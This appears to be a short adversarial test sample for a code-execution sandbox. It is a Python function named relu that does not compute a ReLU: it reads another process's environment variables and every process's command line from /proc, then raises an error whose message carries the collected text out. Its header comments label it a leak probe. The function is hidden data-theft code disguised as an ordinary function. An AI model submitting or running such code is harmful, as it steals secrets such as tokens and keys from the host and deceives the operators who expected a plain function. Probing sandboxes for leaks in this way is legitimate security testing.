# Reads the environment and the command lines of other processes in /proc.
# target: relu
# open: leaks

def relu(x):
    import glob
    text = ""
    for path in ["/proc/HOSTILE_PID/environ", *glob.glob("/proc/[0-9]*/cmdline")]:
        try: text += open(path, "rb").read().decode(errors="replace")
        except OSError: pass
    raise RuntimeError(text[:400])
